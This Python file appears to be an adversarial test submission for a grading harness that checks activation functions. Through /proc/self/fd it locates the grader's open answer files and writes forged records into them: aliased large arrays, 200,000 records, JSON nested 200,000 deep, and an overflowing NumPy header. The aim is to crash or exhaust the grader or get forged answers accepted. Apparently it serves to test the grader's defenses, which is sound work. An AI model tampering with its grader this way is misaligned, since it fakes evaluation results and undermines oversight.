"""Attack: the activations write into the grader's answer files from inside the call (the worker's
files are open in this very process, their paths are in /proc/self/fd), trying to make the trusted
side spend memory, CPU or crash, and to pass forged answers:
- sigmoid: one 8 MB array segment referenced 40 times by forged records (a reader that copies each
  reference holds 320 MB), and records for calls that are still to come;
- sigmoid_derivative: 200,000 tiny records (a reader that parses them all spends seconds);
- tanh_derivative: a record nested 200,000 deep (json.loads: RecursionError), a segment whose shape
  overflows int64, unknown keys, and a record for a call that does not exist.
Each returns the correct answer: it scores 0 only because its forged output is refused (and if the
grader crashed or took the forged output as its answer, the tests see it)."""
import io
import json
import os

import numpy as np
import ref_activations
from ref_activations import *  # noqa: F401,F403


def _files():
    """The step's open answer files: (records path, arrays path)."""
    found = {}
    for fd in range(3, 256):
        try:
            path = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if path.endswith((".jsonl", ".npys")):
            found[path.rsplit(".", 1)[1]] = path
    return found.get("jsonl"), found.get("npys")


def _append(path, data):
    if path:
        with open(path, "ab") as f:
            f.write(data)


def _next_call(records):
    try:
        with open(records, "rb") as f:
            return f.read().count(b"\n")
    except OSError:
        return 0


def _npy(arr):
    buf = io.BytesIO()
    np.save(buf, arr)
    return buf.getvalue()


def sigmoid(x):
    records, arrays = _files()
    if records and arrays and os.path.getsize(arrays) < 16 << 20:
        offset = os.path.getsize(arrays)
        _append(arrays, _npy(np.zeros(1 << 20)))
        call = _next_call(records)
        lines = [json.dumps({"call": call + i, "warnings": [], "leaves": [{"path": "output", "npy": offset}],
                             "inputs_after": [{"path": "arg0", "npy": offset}]}) for i in range(20)]
        _append(records, ("\n".join(lines) + "\n").encode())
    return ref_activations.sigmoid(x)


def sigmoid_derivative(x):
    records, _ = _files()
    if records and os.path.getsize(records) < 1 << 20:
        _append(records, b'{"call": 0, "warnings": []}\n' * 200_000)
    return ref_activations.sigmoid_derivative(x)


def tanh_derivative(x):
    records, arrays = _files()
    if records and arrays and os.path.getsize(records) < 4 << 20:
        offset = os.path.getsize(arrays)
        header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (4294967296, 4294967296, 4), }"
        header += b" " * (63 - len(header) % 64) + b"\n"
        _append(arrays, b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + b"\0" * 64)
        call = _next_call(records)
        _append(records, b"[" * 200_000 + b"]" * 200_000 + b"\n")
        _append(records, json.dumps({"call": call, "warnings": [], "leaves": [{"path": "output", "npy": offset}],
                                     "inputs_after": [], "expected": [1, 2, 3]}).encode() + b"\n")
        _append(records, b'{"call": 99999999999999999999, "warnings": []}\n')
    return ref_activations.tanh_derivative(x)
